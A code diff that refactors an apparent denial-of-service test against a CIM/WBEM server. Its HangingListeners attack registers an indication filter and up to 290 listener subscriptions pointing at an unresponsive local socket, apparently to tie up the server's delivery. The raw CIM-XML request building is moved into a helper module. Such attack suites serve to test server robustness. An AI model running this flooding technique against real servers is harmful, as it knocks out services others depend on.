@@ -1,27 +1,12 @@
+import contextlib
 import itertools
 import socket
 import subprocess
 
-import support
+import subscriptions
 from attack import Attack, Limits
 
 LISTENERS = 290
-INTEROP = '<LOCALNAMESPACEPATH><NAMESPACE NAME="root"/><NAMESPACE NAME="PG_InterOp"/></LOCALNAMESPACEPATH>'
-
-
-def instance(class_name, properties):
-    return f'<INSTANCE CLASSNAME="{class_name}">{properties}</INSTANCE>'
-
-
-def text(name, value):
-    return f'<PROPERTY NAME="{name}" TYPE="string"><VALUE>{value}</VALUE></PROPERTY>'
-
-
-def create(content):
-    """CreateInstance in the interop namespace."""
-    return support.message(
-        f'<IMETHODCALL NAME="CreateInstance">{INTEROP}<IPARAMVALUE NAME="NewInstance">{content}</IPARAMVALUE></IMETHODCALL>'
-    )
 
 
 class HangingListeners(Attack):
@@ -39,23 +24,12 @@ class HangingListeners(Attack):
 
     def attack(self, server, stopping):
         port = self.deaf.getsockname()[1]
-        query = text("Name", "all") + text("Query", "SELECT * FROM CIM_AlertIndication")
-        query += text("SourceNamespace", "root/merolt_cmpi")
-        _, body = support.ask(server, create(instance("CIM_IndicationFilter", query)))
-        wanted = body.decode().split("<IRETURNVALUE>")[1].split("</IRETURNVALUE>")[0]
-        for number in range(LISTENERS):
-            if stopping.is_set():
-                return
-            place = text("Name", str(number)) + text("Destination", f"http://127.0.0.1:{port}/{number}")
-            status, body = support.ask(server, create(instance("CIM_ListenerDestinationCIMXML", place)))
-            if status != 200 or b"<ERROR" in body:
-                break  # there is a limit for each user
-            listener = body.decode().split("<IRETURNVALUE>")[1].split("</IRETURNVALUE>")[0]
-            ends = "".join(
-                f'<PROPERTY.REFERENCE NAME="{name}"><VALUE.REFERENCE>{end}</VALUE.REFERENCE></PROPERTY.REFERENCE>'
-                for name, end in (("Filter", wanted), ("Handler", listener))
-            )
-            support.ask(server, create(instance("CIM_IndicationSubscription", ends)))
+        wanted = subscriptions.make_filter(server)
+        with contextlib.suppress(subscriptions.Refused):  # there is a limit for each user
+            for number in range(LISTENERS):
+                if stopping.is_set():
+                    return
+                subscriptions.subscribe(server, wanted, str(number), f"http://127.0.0.1:{port}/{number}")
         for state in itertools.cycle(("down", "up")):
             if stopping.is_set():
                 return
